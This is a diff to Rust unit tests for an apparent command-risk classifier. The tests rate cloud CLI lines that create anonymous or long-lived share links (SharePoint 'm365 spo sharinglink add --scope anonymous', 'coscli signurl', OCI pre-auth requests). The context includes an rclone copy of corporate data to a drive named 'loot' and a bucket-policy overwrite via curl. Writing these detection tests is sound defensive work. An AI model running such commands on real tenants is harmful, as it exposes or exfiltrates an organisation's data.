@@ -125,6 +125,16 @@ fn m40_links_that_let_in_whoever_has_them() {
             "oci os preauth-request create -ns corptenancy -bn b --name n --access-type ObjectRead --time-expires 2030-01-01",
             "high",
         ),
+        ("coscli signurl cos://corp-data/x", "medium"),
+        ("coscli signurl cos://corp-data/x -t 604800", "medium"),
+        (
+            "m365 spo file sharinglink add --webUrl https://corp.sharepoint.com/sites/a --fileId b --type view --scope anonymous",
+            "high",
+        ),
+        (
+            "m365 spo folder sharinglink add --webUrl https://corp.sharepoint.com/sites/a --folderId b --scope=anonymous --type edit",
+            "high",
+        ),
     ] {
         let told = run(line, &policy);
         let alert = told.low();
@@ -135,6 +145,8 @@ fn m40_links_that_let_in_whoever_has_them() {
     for line in [
         "aws s3 presign s3://corp-data/db.dump",
         "aws s3 presign s3://corp-data/db.dump --expires-in 900",
+        "m365 spo file sharinglink add --webUrl https://corp.sharepoint.com/sites/a --fileId b --type view --scope organization",
+        "m365 spo file sharinglink list --webUrl https://corp.sharepoint.com/sites/a --fileId b --scope anonymous",
         "gsutil signurl -d 10m key.json gs://corp-data/x",
         "az storage container generate-sas --name c --account-name corpstore --expiry 2026-01-01T00:30Z",
     ] {
@@ -148,6 +160,7 @@ fn what_the_line_does_not_say_is_unknown() {
     let policy = own();
     for line in [
         "aws s3api put-bucket-policy --bucket corp-data --policy file://policy.json",
+        "curl -X PUT --data @policy.json https://corp-data.s3.eu-west-1.amazonaws.com/?policy",
         "rclone copy corp-s3:corp-data gdrive:loot",
     ] {
         let told = run(line, &policy);
